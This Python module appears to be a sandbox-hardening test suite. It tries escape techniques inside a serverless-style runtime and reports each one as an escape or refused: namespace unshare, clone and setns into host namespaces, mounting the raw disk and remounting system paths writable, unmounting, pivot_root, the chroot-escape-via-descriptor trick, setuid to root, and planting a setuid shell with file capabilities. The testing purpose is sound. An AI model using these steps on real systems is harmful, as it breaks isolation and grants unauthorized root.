"""Namespaces, mounts, privileges."""

import ctypes
import errno
import os
import stat
import struct
import tempfile

from attacking import CLONE_NAMESPACES, attack, report_from_child, system_call


@attack
def new_namespaces(event, report):
    for name, flag in CLONE_NAMESPACES.items():
        report_from_child(report, f"unshare {name}", lambda flag=flag: "made" if system_call("unshare", flag) == 0 else "")
        report_from_child(report, f"unshare user and {name}",
                          lambda flag=flag: "made" if system_call("unshare", flag | CLONE_NAMESPACES["user"]) == 0 else "")

    class CloneArguments(ctypes.Structure):
        _fields_ = [(field, ctypes.c_uint64) for field in ("flags", "pidfd", "child_tid", "parent_tid", "exit_signal", "stack",
                                                           "stack_size", "tls", "set_tid", "set_tid_size", "cgroup")]

    for name, flag in CLONE_NAMESPACES.items():
        arguments = CloneArguments(flags=flag | CLONE_NAMESPACES["user"], exit_signal=17)
        for call, values in [("clone3", (ctypes.byref(arguments), ctypes.sizeof(arguments))),
                             ("clone", (flag | CLONE_NAMESPACES["user"] | 17, 0, 0, 0, 0))]:
            result = system_call(call, *values)
            if result == 0:
                os._exit(0)
            if result > 0:
                os.waitpid(result, 0)
                report.escape(f"{call} {name}")
            else:
                report.refused(f"{call} {name}: {errno.errorcode.get(-result)}")


@attack
def join_namespaces(event, report):
    for pid in sorted({1, os.getppid(), event.get("server_pid", 1)}):
        for name in ["mnt", "net", "pid", "user", "ipc", "uts", "cgroup"]:
            try:
                fd = os.open(f"/proc/{pid}/ns/{name}", os.O_RDONLY)
            except OSError as error:
                report.refused(f"{pid} {name}: {error.strerror}")
                continue
            report_from_child(report, f"setns {pid} {name}", lambda fd=fd: "joined" if system_call("setns", fd, 0) == 0 else "")
            os.close(fd)


@attack
def mounts(event, report):
    folder = tempfile.mkdtemp(dir="/tmp")
    target, tmpfs, proc, root = folder.encode(), b"tmpfs", b"proc", b"/"
    bind, move, remount, shared = 4096, 8192, 32, 1 << 20
    report.system_call("mount", tmpfs, target, tmpfs, 0, 0, label="mount tmpfs")
    report.system_call("mount", proc, target, proc, 0, 0, label="mount proc")
    report.system_call("mount", b"sysfs", target, b"sysfs", 0, 0, label="mount sysfs")
    report.system_call("mount", b"overlay", target, b"overlay", 0, f"lowerdir=/usr,upperdir={folder},workdir={folder}".encode(),
                       label="mount overlay")
    report.system_call("mount", root, target, 0, bind, 0, label="bind /")
    report.system_call("mount", b"/dev/vda", target, b"ext4", 0, 0, label="mount the disk")
    for place in (b"/", b"/var/task", b"/usr", b"/proc"):
        report.system_call("mount", 0, place, 0, remount | bind, 0, label=f"remount {place.decode()} writable")
        report.system_call("mount", 0, place, 0, shared, 0, label=f"make {place.decode()} shared")
        report.system_call("mount_setattr", -100, place, 0, ctypes.byref((ctypes.c_uint64 * 4)(0, 1, 0, 0)), 32,
                           label=f"mount_setattr {place.decode()}")
    report.system_call("mount", b"/proc", target, 0, move, 0, label="move /proc")
    report.system_call("fsopen", tmpfs, 0)
    report.system_call("open_tree", -100, root, 1, label="open_tree clone")
    report.system_call("move_mount", -100, root, -100, target, 0)


@attack
def unmounts(event, report):
    """What lies under a mount may be the host's: a read-only bind over a writable one, an empty folder over the data."""
    for place in ["/var/task", "/opt", "/var/runtime", "/etc", "/tmp", "/proc", "/usr", "/dev"]:
        report.system_call("umount2", place.encode(), 0, label=f"umount {place}")
        report.system_call("umount2", place.encode(), 2, label=f"umount {place} lazily")


@attack
def change_root(event, report):
    folder = tempfile.mkdtemp(dir="/tmp")
    report.system_call("pivot_root", folder.encode(), folder.encode())
    report.system_call("pivot_root", b".", b".", label="pivot_root in place")

    def classic():
        """chroot while keeping a descriptor outside, then climb."""
        inside = tempfile.mkdtemp(dir="/tmp")
        fd = os.open("/", os.O_RDONLY)
        if system_call("chroot", inside.encode()) != 0:
            return ""
        os.fchdir(fd)
        for _ in range(40):
            os.chdir("..")
        return f"chroot works; above it lies {os.listdir('.')[:6]}"

    report_from_child(report, "chroot", classic)


@attack
def become_root(event, report):
    for name, action in [("setuid 0", lambda: os.setuid(0)), ("setgid 0", lambda: os.setgid(0)), ("setgroups", lambda: os.setgroups([0])),
                         ("setresuid", lambda: os.setresuid(0, 0, 0))]:
        def body(action=action):
            # Inside a user namespace a process may already be its 0: what counts is power, which the effective set shows.
            action()
            return "effective capabilities" if int(status_field("CapEff"), 16) else ""
        report_from_child(report, name, body)
    for field in ("CapInh", "CapPrm", "CapEff", "CapAmb"):
        value = status_field(field)
        report.refused(f"{field} {value}") if int(value, 16) == 0 else report.escape(f"{field} is {value}")
    report.refused("no new privileges") if status_field("NoNewPrivs") == "1" else report.escape("new privileges may be gained")
    report.refused("filter on") if status_field("Seccomp") == "2" else report.escape("there is no system call filter")
    for path in ["/bin/su", "/usr/bin/sudo", "/bin/mount", "/usr/bin/passwd", "/usr/bin/newuidmap"]:
        if not os.path.exists(path):
            continue
        suid = os.stat(path).st_mode & stat.S_ISUID and not os.statvfs(path).f_flag & os.ST_NOSUID
        report.escape(f"{path} is setuid on a mount that honours it") if suid else report.refused(f"{path} cannot raise")


def status_field(name):
    with open("/proc/self/status") as file:
        for line in file:
            if line.startswith(name + ":"):
                return line.split()[1]
    return "0"


@attack
def setuid_file(event, report):
    """A setuid copy of a shell in /tmp, which another user on the host might run; and file capabilities."""
    path = "/tmp/attack-suid"
    with open(path, "wb") as file:
        file.write(b"#!/bin/sh\n")
    try:
        os.chmod(path, 0o4755)
        if not os.statvfs("/tmp").f_flag & os.ST_NOSUID:
            report.escape("/tmp honours setuid files")
        report.refused("a setuid file on a nosuid mount")
    except OSError as error:
        report.refused(f"chmod u+s: {error.strerror}")
    try:
        os.setxattr(path, "security.capability", struct.pack("<5I", 0x02000001, 0xFFFFFFFF, 0, 0xFFFFFFFF, 0))
        report.escape("file capabilities can be set")
    except OSError as error:
        report.refused(f"security.capability: {error.strerror}")
    os.unlink(path)
